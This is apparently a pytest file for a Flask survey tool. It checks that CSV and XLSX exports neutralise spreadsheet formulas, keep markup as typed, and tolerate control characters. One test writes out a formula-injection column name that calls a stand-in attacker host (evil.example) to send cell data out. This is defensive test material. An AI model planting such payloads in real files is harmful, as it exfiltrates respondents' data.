"""Spreadsheets: every CSV and XLSX export (responses, codings, memos, invitation links)
keeps markup as typed but neutralises anything that would start a formula in Excel,
in data rows and column names alike, and XLSX exports still download when staff text or
an invitation file holds control characters.
"""

from __future__ import annotations

import csv
import io
import re
from urllib.parse import urlsplit

from flask import Flask

from survey.store import Store
from survey.workbench import actions as coding_actions
from survey.workbench import codebook_editor as edit

from ..conftest import form_tokens, post_form
from ..hostile import ANSWERS, CSV, XSS, cleaned
from .support import (
    ADMIN,
    JSON,
    Coded,
    formula_cells,
    hostile_questionnaire_survey,
    link_paths,
    page_of,
    spreadsheet,
    staff,
    token,
    upload_people,
)


def test_exports_of_responses_codings_and_memos_neutralise_formula_starts(
    app: Flask, db: Store, coded: Coded
) -> None:
    sid = coded.corpus.id
    admin = staff(app, db, ADMIN, "admin")
    downloads = {
        "responses": (admin, f"/admin/surveys/{sid}/export"),
        "codings": (coded.evaluator, f"/coding/surveys/{sid}/export/codings"),
        "memos": (coded.evaluator, f"/coding/surveys/{sid}/export/memos"),
    }
    formulas = {cleaned(p) for p in CSV.values()}
    for what, (client, url) in downloads.items():
        for fmt in ("csv", "xlsx"):
            rows = spreadsheet(client.get(f"{url}.{fmt}"), fmt)  # no XLSX formula cell
            assert len(rows) > len(ANSWERS), (what, fmt)
            cells = {v for row in rows[1:] for v in row if isinstance(v, str)}
            # CSV needs an apostrophe against formulas; an XLSX text cell keeps the text
            # exactly as typed.
            guard = "'" if fmt == "csv" else ""
            if fmt == "csv":
                assert formula_cells(rows) == [], (what, fmt, formula_cells(rows)[:5])
            missing = {f for f in formulas if guard + f not in cells}
            assert not missing, f"{what}.{fmt}: not kept as text: {missing}"
            # Markup is data here: kept as typed (an apostrophe before a leading "-").
            kept = {m for m in (cleaned(p) for p in XSS.values()) if m in cells or "'" + m in cells}
            assert len(kept) == len(XSS), f"{what}.{fmt}: markup is kept as typed"


def test_a_formula_in_an_attribute_column_name_is_neutralised_in_every_export(
    app: Flask, db: Store
) -> None:
    survey = hostile_questionnaire_survey(db, "personlig", anonymous=False)
    column = '=HYPERLINK("https://evil.example/?d="&A2,"Klicka")'
    content = f'namn;e-post;"{column.replace(chr(34), chr(34) * 2)}"\nÅsa;asa@example.org;Järva\n'
    admin = staff(app, db, ADMIN, "admin")
    tokens = form_tokens(admin, f"/admin/surveys/{survey['id']}")
    url = f"/admin/surveys/{survey['id']}/invitations"
    preview = page_of(
        admin.post(
            url,
            data={**tokens, "people": (io.BytesIO(content.encode()), "p.csv")},
            content_type="multipart/form-data",
        )
    )
    hidden = re.search(r'name="content" value="([^"]+)"', preview).group(1)
    links = admin.post(url, data={**tokens, "content": hidden})
    row = next(csv.DictReader(io.StringIO(page_of(links).lstrip("\ufeff")), delimiter=";"))
    post_form(app.test_client(), f"{urlsplit(row['länk']).path}/1", {"fritext": "Kurator"})
    evaluator = staff(app, db, "eva@example.org", "evaluator", survey["id"])
    code = edit.add_code(db, survey["id"], None, "Roll")
    answer = db.open_answers(survey["id"])[0]["id"]
    coding_actions.add_coding(
        db, survey["id"], db.user_by_email("eva@example.org")["id"], answer, code
    )
    found = {
        "links.csv": formula_cells(spreadsheet(links, "csv")),
        "responses.csv": formula_cells(
            spreadsheet(admin.get(f"/admin/surveys/{survey['id']}/export.csv"), "csv")
        ),
        "codings.csv": formula_cells(
            spreadsheet(evaluator.get(f"/coding/surveys/{survey['id']}/export/codings.csv"), "csv")
        ),
    }
    assert found == {"links.csv": [], "responses.csv": [], "codings.csv": []}, found
    for url in (
        f"/admin/surveys/{survey['id']}/export.xlsx",
        f"/coding/surveys/{survey['id']}/export/codings.xlsx",
    ):
        client = admin if url.startswith("/admin") else evaluator
        spreadsheet(client.get(url), "xlsx")  # asserts that no cell is a formula


def test_xlsx_exports_download_when_staff_text_holds_control_characters(
    app: Flask, db: Store, team: dict
) -> None:
    sid = team["survey"]["id"]
    evaluator = staff(app, db, "eva@example.org", "evaluator", sid)
    csrf = token(evaluator)
    memo = evaluator.post(
        f"/coding/surveys/{sid}/memos",
        data={"csrf_token": csrf, "target": "survey", "target_id": sid, "body": "Ring\x07 hem\x1b"},
    )
    assert memo.status_code == 302
    added = evaluator.post(
        f"/coding/surveys/{sid}/codebook/codes", data={"csrf_token": csrf, "label": "Skola\x07"}
    )
    code_id = int(added.headers["Location"].rsplit("/", 1)[1])
    answer = team["answers"][0]["id"]
    evaluator.post(
        f"/coding/surveys/{sid}/answers/{answer}/codings",
        data={"csrf_token": csrf, "code_id": code_id},
        headers=JSON,
    )
    survey = hostile_questionnaire_survey(db, "personlig", anonymous=False)
    admin = staff(app, db, ADMIN, "admin")
    links = upload_people(
        admin, survey["id"], "namn;e-post;stadsdel\nÅsa;asa@example.org;J\x07rva\n".encode()
    )
    post_form(app.test_client(), f"{link_paths(page_of(links))[0]}/1", {"fritext": "x"})
    statuses = {
        "memos.xlsx": evaluator.get(f"/coding/surveys/{sid}/export/memos.xlsx").status_code,
        "codings.xlsx": evaluator.get(f"/coding/surveys/{sid}/export/codings.xlsx").status_code,
        "responses.xlsx": admin.get(f"/admin/surveys/{survey['id']}/export.xlsx").status_code,
    }
    assert statuses == {"memos.xlsx": 200, "codings.xlsx": 200, "responses.xlsx": 200}
